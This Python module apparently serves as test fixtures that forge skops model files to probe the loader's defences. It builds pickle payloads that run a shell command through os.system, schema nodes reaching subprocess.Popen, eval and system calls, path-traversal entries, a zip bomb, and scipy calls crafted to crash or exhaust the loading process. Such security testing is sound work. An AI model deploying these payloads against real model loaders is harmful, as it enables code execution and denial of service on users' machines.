"""Forged model files: what an attacker who knows skops would try."""

import io
import itertools
import json
import warnings
import zipfile
import zlib
from typing import Any

import numpy as np

_IDS = itertools.count(1)


def archive(schema: Any, extra: dict[str, bytes] | None = None) -> bytes:
    """A skops file around any schema."""
    buffer = io.BytesIO()
    text = schema if isinstance(schema, str) else json.dumps({"protocol": 2, "_skops_version": "0.16.0", **schema})
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("schema.json", text)
        for name, data in (extra or {}).items():
            file.writestr(name, data)
    return buffer.getvalue()


def node(loader: str, path: str, content: Any = None, **fields: Any) -> dict[str, Any]:
    """One node of a schema."""
    module, _, name = path.rpartition(".")
    return {
        "__loader__": loader,
        "__module__": module,
        "__class__": name,
        "content": content,
        "__id__": next(_IDS),
        **fields,
    }


def text(value: Any) -> dict[str, Any]:
    """A JSON value as a node."""
    return node("JsonNode", "builtins.str", json.dumps(value), is_json=True)


def sequence(*nodes: dict[str, Any]) -> dict[str, Any]:
    """A tuple as a node."""
    return node("TupleNode", "builtins.tuple", list(nodes))


def listed(*nodes: dict[str, Any]) -> dict[str, Any]:
    """A list as a node."""
    return node("ListNode", "builtins.list", list(nodes))


def mapping(**nodes: dict[str, Any]) -> dict[str, Any]:
    """A dict as a node."""
    keys = listed(*(node("TypeNode", "builtins.str") for _ in nodes))
    return node("DictNode", "builtins.dict", nodes, key_types=keys)


def called(function: str, key: str, *arguments: Any, **options: Any) -> dict[str, Any]:
    """A dict whose one key is made by calling a function, which skops trusts, with arguments and last with the key."""
    content = {
        "func": node("FunctionNode", function),
        "args": sequence(*map(text, arguments)),
        "kwds": mapping(**{name: text(value) for name, value in options.items()}),
        "namespace": mapping(),
    }
    return node(
        "DictNode", "builtins.dict", {key: text(0)}, key_types=listed(node("PartialNode", "functools.partial", content))
    )


def npy_bytes(array: Any, **options: Any) -> bytes:
    """A file of one array."""
    buffer = io.BytesIO()
    np.save(buffer, array, **options)
    return buffer.getvalue()


def beside(honest: bytes, extra: dict[str, bytes]) -> bytes:
    """An honest archive with further entries."""
    buffer = io.BytesIO(honest)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as file, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # of duplicate names
        for name, data in extra.items():
            file.writestr(name, data)
    return buffer.getvalue()


def hostile(command: str, honest: bytes) -> dict[str, bytes]:
    """Forged model files by what they try; ``command`` is what they try to run in a shell."""
    import pickle

    class Bomb:
        def __reduce__(self) -> Any:
            import os

            return os.system, (command,)

    pickled = pickle.dumps(Bomb())
    call = sequence(text(command))
    array = np.array([Bomb()], dtype=object)
    huge = b"\x93NUMPY\x01\x00" + (118).to_bytes(2, "little")
    huge += b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117) + b"\n"
    schema = zipfile.ZipFile(io.BytesIO(honest)).read("schema.json")
    at = honest.index(b"PK\x01\x02")
    scaler = "sklearn.preprocessing._data.StandardScaler"
    return {
        "pickle": pickled,
        "compressed pickle": zlib.compress(pickled),
        "empty": b"",
        "html": b"<html></html>",
        "cut": honest[: len(honest) // 2],
        "pickle beside the schema": beside(honest, {"1.npy": pickled}),
        "pickle inside an array": archive(
            node("NdArrayNode", "numpy.ndarray", type="numpy", file="1.npy"),
            {"1.npy": npy_bytes(array, allow_pickle=True)},
        ),
        "huge array": archive(node("NdArrayNode", "numpy.ndarray", type="numpy", file="1.npy"), {"1.npy": huge}),
        "constructor call": archive(node("ConstructorFromReduceNode", "posix.system", call)),
        "reduce": archive(node("ReduceNode", "posix.system", mapping(), __reduce__={"args": call})),
        "tree reduce": archive(node("TreeNode", "posix.system", mapping(), __reduce__={"args": call})),
        "old reduce": archive({**node("ObjectNode", "posix.system", call), "protocol": 0}),
        "old function": archive(
            {**node("FunctionNode", "posix.system", {"module_path": "os", "function": "system"}), "protocol": 0}
        ),
        "operator": archive(
            node("OperatorFuncNode", "operator.methodcaller", attrs=sequence(text("system"), text(command)))
        ),
        "operator of another module": archive(node("OperatorFuncNode", "posix.system", attrs=call)),
        "method": archive(
            node("MethodNode", scaler, {"func": "__init__", "obj": node("ObjectNode", scaler, mapping())})
        ),
        "method of another object": archive(
            node("MethodNode", "subprocess.Popen", {"func": "kill", "obj": node("ObjectNode", scaler, mapping())})
        ),
        "partial": archive(
            node(
                "PartialNode",
                "functools.partial",
                {"func": node("TypeNode", "posix.system"), "args": call, "kwds": mapping(), "namespace": mapping()},
            )
        ),
        "function": archive(node("FunctionNode", "posix.system")),
        "type": archive(node("TypeNode", "builtins.eval")),
        "unknown type": archive(node("ObjectNode", "subprocess.Popen", mapping(args=text(command)))),
        "keys made by a foreign type": archive(
            node(
                "DictNode",
                "builtins.dict",
                {command: text(1)},
                key_types=node("ListNode", "builtins.list", [node("TypeNode", "posix.system")]),
            )
        ),
        "foreign mapping": archive(node("DictNode", "posix.fork", {}, key_types=node("ListNode", "builtins.list", []))),
        "bit generator": archive(
            node(
                "RandomGeneratorNode",
                "numpy.random.Generator",
                {"bit_generator": mapping(bit_generator=text("seed")), "seed_seq": mapping()},
            )
        ),
        "hidden in a pipeline": archive(
            node(
                "ObjectNode",
                "sklearn.pipeline.Pipeline",
                mapping(steps=node("ObjectNode", "subprocess.Popen", mapping())),
            )
        ),
        "no estimator": archive(text("just text")),
        "unknown loader": archive(node("EvalNode", "builtins.eval", command)),
        "newer protocol": archive({**text(1), "protocol": 99}),
        "deep schema": archive("".join(f'{{"{hash(n)}":' for n in range(50_000))),
        "no schema": archive({}).replace(b"schema.json", b"scheme.json"),
        "path out of the archive": beside(honest, {"../../../tmp/1.npy": b"\x93NUMPY"}),
        "absolute path": beside(honest, {"/tmp/1.npy": b"\x93NUMPY"}),
        "code beside the model": beside(honest, {"sitecustomize.py": b"import os"}),
        "entry twice": beside(honest, {"schema.json": schema}),
        "zip bomb": beside(honest, {"1.npy": b"\x93NUMPY" + bytes(200 << 20)}),
        "encrypted": honest[: at + 8] + b"\x01" + honest[at + 9 :],
    }


SPECIAL = "scipy.special._special_ufuncs"


def costly() -> dict[str, bytes]:
    """Files of trusted types alone that do harm to the process that loads them, by how it ends."""
    padding = {"1.npy": npy_bytes(np.frombuffer(np.random.default_rng(0).bytes(150_000), np.uint8))}
    return {
        # Fortran's arrays end long before the mode that is asked for.
        "SIGSEGV": archive(called(f"{SPECIAL}.obl_cv", "1e9", 1e9, 1e9, signature="ddd->d", casting="unsafe")),
        # A matrix of size 1e9, diagonal by diagonal.
        "processor time": archive(called(f"{SPECIAL}.mathieu_a", "1e9", 1e9, signature="dd->d", casting="unsafe")),
        # Three bytes of text make 64 of memory, seven million times.
        "memory": archive(text([[]] * 7_000_000), padding),
    }
